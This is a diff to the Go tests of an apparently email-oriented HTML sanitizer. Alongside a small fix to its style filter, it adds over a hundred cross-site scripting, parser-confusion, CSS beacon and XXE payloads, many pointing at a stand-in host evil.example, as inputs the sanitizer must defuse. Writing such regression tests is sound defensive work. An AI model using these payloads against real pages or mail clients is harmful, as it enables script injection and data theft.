@@ -47,7 +47,7 @@ func forbiddenAttribute(element, key, value string) bool {
 			!strings.HasPrefix(low, "data:image/jpeg;base64,") && !strings.HasPrefix(low, "data:image/gif;base64,") &&
 			!strings.HasPrefix(low, "data:image/webp;base64,")
 	case "style":
-		return strings.ContainsAny(low, `\@<>{}&"'/*`) || strings.Contains(low, "url") || strings.Contains(low, "expression") ||
+		return strings.ContainsAny(low, `\@<>{}&"'/*`) || strings.Contains(low, "url(") || strings.Contains(low, "expression") ||
 			strings.Contains(low, "position:") || strings.Contains(low, "z-index") || strings.Contains(low, "var(")
 	case "target":
 		return value != "_blank"
@@ -247,11 +247,149 @@ var attacks = strings.Split(strings.TrimSpace(`
 &amp;lt;img src=x onerror=alert(1)&amp;gt;
 %3Cscript%3Ealert(1)%3C/script%3E
 +ADw-script+AD4-alert(1)+ADw-/script+AD4-
+<a href="java	script:alert(1)">x</a>
+<a href="//evil.example\@x.example">x</a>
+<a href="https:/\evil.example">x</a>
+<a href="https:\\evil.example">x</a>
+<a href="https:///evil.example">x</a>
+<a href="mailto:a@b.example?attach=/etc/passwd">x</a>
+<a href="mailto:javascript:alert(1)">x</a>
+<a href="http://[::1]%0d%0a/">x</a>
+<a href="https://x.example/%22onclick=alert(1)">x</a>
+<a href="https://x.example/&quot;onclick=alert(1)">x</a>
+<a href='https://x.example/"><script>alert(1)</script>'>x</a>
+<a href="ｊavascript:alert(1)">x</a>
+<a href="jar:https://x.example!/">x</a>
+<a href="about:blank">x</a>
+<a href="intent://x#Intent;end">x</a>
+<a href="ftp://evil.example/">x</a>
+<a href="https://x.example" attributionsrc=http://evil.example>x</a>
+<a href="https://x.example" href="javascript:alert(1)">x</a>
+<a HREF=javascript:alert(1) href=https://x.example>x</a>
+<a href="https://x.example" target="evil" rel="opener">x</a>
+<a href="https://x.example" hreflang="&quot; onclick=alert(1)" type="text/html">x</a>
+<img src="cid:x" crossorigin referrerpolicy=unsafe-url fetchpriority=high loading=eager>
+<img src="cid:x@y/../../evil">
+<img src="cid:javascript:alert(1)">
+<img src="data:image/png;base64,AAAA" onerror=alert(1)>
+<img src="data:image/svg+xml;charset=utf8;base64,AAAA">
+<img src="data:image/png;base64,AAAA&quot; onerror=&quot;alert(1)">
+<img src="data:image/png;x=y;base64,AAAA">
+<img src="DATA:IMAGE/SVG+XML;base64,AAAA">
+<img src="data:,x">
+<img src="cid:a" src="http://evil.example/1">
+<img src="http://evil.example/1" src="cid:a">
+<img alt="]<script>alert(1)</script>" src=http://evil.example/>
+<img alt="&lt;script&gt;alert(1)&lt;/script&gt;" src=http://evil.example/>
+<img srcset="cid:1 1x, http://evil.example/1 2x" src=cid:1 sizes=100vw>
+<img src="cid:1" style="background:url(http://evil.example/)">
+<img src="cid:1" style="content:url(http://evil.example/)">
+<div style="background:red url(&#104;ttp://evil.example/)">x</div>
+<div style="background: URL('//evil.example')">x</div>
+<div style="background:\75\72\6c(http://evil.example)">x</div>
+<div style="background:ur/**/l(http://evil.example)">x</div>
+<div style="background:cross-fade(url(http://evil.example),red)">x</div>
+<div style="background:-webkit-image-set(url(http://evil.example) 1x)">x</div>
+<div style="background:element(#x)">x</div>
+<div style="background:attr(data-x url)">x</div>
+<div style="background:paint(x)">x</div>
+<div style="background:src('http://evil.example')">x</div>
+<div style="color:rgb(0,0,0)url(http://evil.example)">x</div>
+<div style="color:red;color:RGB(1,2,3;position:fixed">x</div>
+<div style="width:calc(100vw + 1px)">x</div>
+<div style="font:1em x;font-face:y;src:url(http://evil.example)">x</div>
+<div style="@import 'http://evil.example'">x</div>
+<div style="</style><script>alert(1)</script>">x</div>
+<div style="margin:-9999px;top:-10px;position:sticky">x</div>
+<div style="margin: - 9px;margin-top:--9px">x</div>
+<div style="display:inline;inset:0;position:absolute">x</div>
+<div style="pointer-events:none;opacity:.01">x</div>
+<div style="color:red;&#59;background:url(http://evil.example)">x</div>
+<div style='color:&quot;};*{background:url(http://evil.example)'>x</div>
+<p id=location name=body class="btn btn-danger" data-action="click->x#y">x</p>
+<form name=document><input name=cookie></form>
+<p contenteditable autofocus onfocus=alert(1) tabindex=0 accesskey=x>x</p>
+<p is=x-foo slot=x part=x exportparts=x nonce=x>x</p>
+<p popover popovertarget=x onbeforetoggle=alert(1)>x</p>
+<p title="<script>alert(1)</script>">x</p>
+<p itemscope itemid=javascript:alert(1)>x</p>
+<p hx-get=http://evil.example hx-trigger=load>x</p>
+<p x-data="alert(1)" v-html="alert(1)" ng-app>{{constructor.constructor('alert(1)')()}}</p>
+<template><script>alert(1)</script></template>
+<template shadowrootmode=open><style>@import 'http://evil.example'</style></template>
+<slot onslotchange=alert(1)>x</slot>
+<portal src=http://evil.example></portal>
+<fencedframe src=http://evil.example></fencedframe>
+<math><mtext><table><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">
+<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
+<svg/><script>alert(1)</script>
+<svg><p/><script>alert(1)</script>
+<math/><div hidden/>#close
+<math><div hidden/>#close
+<svg><div hidden/>#close</svg>
+<svg></svg/><img src=x onerror=alert(1)>
+<svg><desc><p hidden>#close
+<svg><![CDATA[><img src=x onerror=alert(1)>]]>
+<math><![CDATA[</math><script>alert(1)</script>]]>
+<select><style><img src=x onerror=alert(1)></style></select>
+<select><template><script>alert(1)</script></template></select>
+<option><style></option></select><img src=x onerror=alert(1)></style>
+<table><colgroup><script>alert(1)</script></colgroup></table>
+<table><caption><svg><title><style><img src=x onerror=alert(1)></style></table>
+<frameset onload=alert(1)><frame src=x></frameset>
+<textarea></textarea><script>alert(1)</script>
+<textarea><!--</textarea><img src=x onerror=alert(1)>-->
+<title><!--</title><img src=x onerror=alert(1)>-->
+<style><!--</style><img src=x onerror=alert(1)>-->
+<script><!--<script></script>--><img src=x onerror=alert(1)></script>
+<noscript><style></noscript><img src=x onerror=alert(1)></style>
+<xmp></xmp/><img src=x onerror=alert(1)>
+<plaintext></plaintext><script>alert(1)</script>
+<listing>
+<script>alert(1)</script></listing>
+<!--><script>alert(1)</script>-->
+<!--x--!><script>alert(1)</script>
+<!-- --- --><script>alert(1)</script>
+<?xml <script>alert(1)</script>?>
+<?xml-stylesheet href="http://evil.example"?>
+<![CDATA[<script>alert(1)</script>]]>
+<!DOCTYPE x [<!ENTITY y SYSTEM "http://evil.example">]>&y;
+<!--[if gte mso 9]><script>alert(1)</script><![endif]-->
+<![if true]><script>alert(1)</script><![endif]>
+</p/onclick=alert(1)>
+</a onmouseover=alert(1)>x
+<a
+onclick=alert(1)
+>x</a>
+<p/onclick=alert(1)/style=color:red>x
+<p """onclick=alert(1)>x
+<p a="b"onclick=alert(1)>x
+<p =onclick=alert(1)>x
+<p 'onclick=alert(1)'x>y
+<scrİpt>alert(1)</scrİpt>
+<ſcript>alert(1)</ſcript>
+<img src="http://evil.example/?
+<img alt="<p>" src="http://evil.example/?'
+<table><td><a href="https://evil.example/?
+<base href="http://evil.example"><a href="x">y</a>
+<meta http-equiv="Content-Security-Policy" content="img-src *"><link rel=preload as=image href=http://evil.example>
+<link rel=icon href=http://evil.example><link rel=preconnect href=http://evil.example>
+<bgsound src=http://evil.example><layer src=http://evil.example></layer><ilayer src=http://evil.example></ilayer>
+<xml id=x src=http://evil.example></xml><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
+<v:rect><v:fill src="http://evil.example/1" /></v:rect><v:imagedata src=http://evil.example>
+<body background=http://evil.example text=red><table background=http://evil.example>
+<blockquote cite=http://evil.example>x</blockquote><q cite=javascript:alert(1)>x</q><del cite=http://evil.example>x</del>
+<ins datetime=x cite=javascript:alert(1)>x</ins><time datetime="onx">x</time>
+<font face="x;background:url(http://evil.example)" size="7&quot;" color="red;x">x</font>
+<td width="100%;x" height=expression(alert(1)) bgcolor="url(http://evil.example)">x
+<td colspan=99999999 rowspan=-1>x
+<ol start=99999999999 type="javascript:alert(1)"><li value=-1>x
+<p align="javascript:alert(1)" dir="&quot;x" lang="x&quot;onclick=alert(1)">x
 `), "\n")
 
 func TestSanitizeAttacks(t *testing.T) {
-	if len(attacks) < 150 {
-		t.Fatalf("%d attacks, want at least 150", len(attacks))
+	if len(attacks) < 280 {
+		t.Fatalf("%d attacks, want at least 280", len(attacks))
 	}
 	raw := strings.NewReplacer(`\x00`, "\x00", `\x01`, "\x01", `\x0c`, "\x0c", `\x22`, `"`)
 	for _, attack := range append(attacks, strings.Join(attacks, "\n")) {
@@ -265,10 +403,15 @@ func TestSanitizeAttacks(t *testing.T) {
 	}
 }
 
+// TestForbidden is the control: harm that was left in must be found.
 func TestForbidden(t *testing.T) {
-	for _, in := range []string{"<script>", "<img src=http://x>", "<p onclick=x>", "<a href=javascript:x>", "<p style='position:fixed'>", "<svg>", "<p id=x>", "<!-- -->"} {
-		if forbidden(in) == "" {
-			t.Errorf("the test would not notice %q", in)
+	for _, page := range []string{
+		"<script>alert(1)</script>", "<p onclick=alert(1)>x", `<a href="javascript:alert(1)">x</a>`, "<img src=http://evil.example/1>",
+		`<img src="data:image/svg+xml;base64,AAAA">`, `<p style="background:url(http://evil.example)">x`, `<p style="position: fixed">x`,
+		"<form>x</form>", "<svg></svg>", "<!-- x -->", "<p id=x>x", `<a href="https://x.example" target=_top>x</a>`, "<base href=x>", "<style>x</style>",
+	} {
+		if forbidden(page) == "" {
+			t.Errorf("nothing forbidden is found in %q", page)
 		}
 	}
 }
@@ -291,7 +434,12 @@ Rw==">`, `<img src="cid:a@b" alt="x" width="10"><img src="data:image/png;base64,
 		{"tables and fonts", `<table border=1 cellpadding=2 background=x><tr><td colspan=2 bgcolor="#eee"><font color=red size="+1" face="Arial">a</font></table>`,
 			`<table border="1" cellpadding="2"><tr><td colspan="2" bgcolor="#eee"><font color="red" face="Arial">a</font></td></tr></table>`},
 		{"what is hidden", `<style>.h{display:none}</style><p class=h>a</p><p style="display:none">b</p>c`, `c`},
-		{"forms", `<form action=x>a<input value=b><button>c</button></form>`, `ac`},
+		{"forms", `<form action=x>a<input value=b><button>c</button></form>`, `<div>abc</div>`},
+		{"forms that were filled in", `<input value="a<b>" type=text><input type=hidden value=x><input type=password value=x>`, `a&lt;b&gt;`},
+		{"parts of forms", `<fieldset><legend>a</legend>b<select><option>c<option>d</select></fieldset>`, `<div><div>a</div>b<div>c</div><div>d</div></div>`},
+		{"what folds", `<details><summary>a</summary>b</details>`, `<div><div>a</div>b</div>`},
+		{"plain text", "<xmp><b>a</b>\n b</xmp><menu><li>c</menu>", "<pre>&lt;b&gt;a&lt;/b&gt;\n b</pre><ul><li>c</li></ul>"},
+		{"too many elements", strings.Repeat("<br>", maxWritten) + "<p>a<p>b", strings.Repeat("<br>", maxWritten) + " a b"},
 		{"nothing", "", ""},
 	}
 	for _, tt := range tests {
